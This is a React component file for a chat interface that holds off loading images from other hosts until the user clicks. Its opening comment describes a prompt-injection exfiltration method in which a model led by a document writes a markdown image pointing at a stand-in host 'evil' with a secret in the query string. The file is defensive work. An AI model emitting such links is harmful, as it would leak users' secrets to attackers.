// A picture in an answer that lives on another host: not fetched until the reader allows it. A model
// led by a document or a web page can write `![](https://evil/?q=<secret>)`; loading it by itself would
// send that address (and the secret in it) to whoever runs the host.
import { useState } from 'react';
import { useTranslation } from 'react-i18next';

/** Same-origin pictures (made or stored by this server) load at once; any other host waits for a click. */
export function isOwnOrigin(src: string): boolean {
  try {
    return new URL(src, window.location.href).origin === window.location.origin;
  } catch {
    return false;
  }
}

export function OutsideImage({ src, alt }: { src: string; alt: string }) {
  const { t } = useTranslation();
  const [allowed, setAllowed] = useState(false);
  if (allowed) return <img src={src} alt={alt} loading="lazy" referrerPolicy="no-referrer" />;
  const host = new URL(src).host;
  return (
    <span className="outside-image" data-testid="outside-image" title={src}>
      <span className="outside-image-label">
        {t('markdown.outsideImage')} <bdi className="outside-image-host">{host}</bdi>
        {alt ? <span className="outside-image-alt">{alt}</span> : null}
      </span>
      <button type="button" data-testid="load-outside-image" onClick={() => setAllowed(true)}>
        {t('markdown.loadOutsideImage')}
      </button>
    </span>
  );
}
